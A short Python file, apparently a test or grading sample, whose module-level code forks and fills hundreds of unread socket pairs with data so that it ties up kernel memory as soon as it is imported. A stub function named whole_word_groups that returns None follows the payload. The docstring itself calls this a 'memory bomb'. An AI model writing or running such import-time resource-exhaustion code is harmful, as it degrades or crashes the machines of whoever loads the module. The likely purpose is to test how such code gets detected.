"""A memory bomb in sockets that nobody reads from, which are no process' memory.

Earns: nothing
Shows: MB of memory
"""

import contextlib
import os
import socket
import time


os.fork()
kept = [end for _ in range(350) for end in socket.socketpair()]
for one in kept:
    with contextlib.suppress(OSError):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 19)
    one.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            one.send(b"x" * 32_000)
time.sleep(60)


def whole_word_groups(word_ids):
    return None
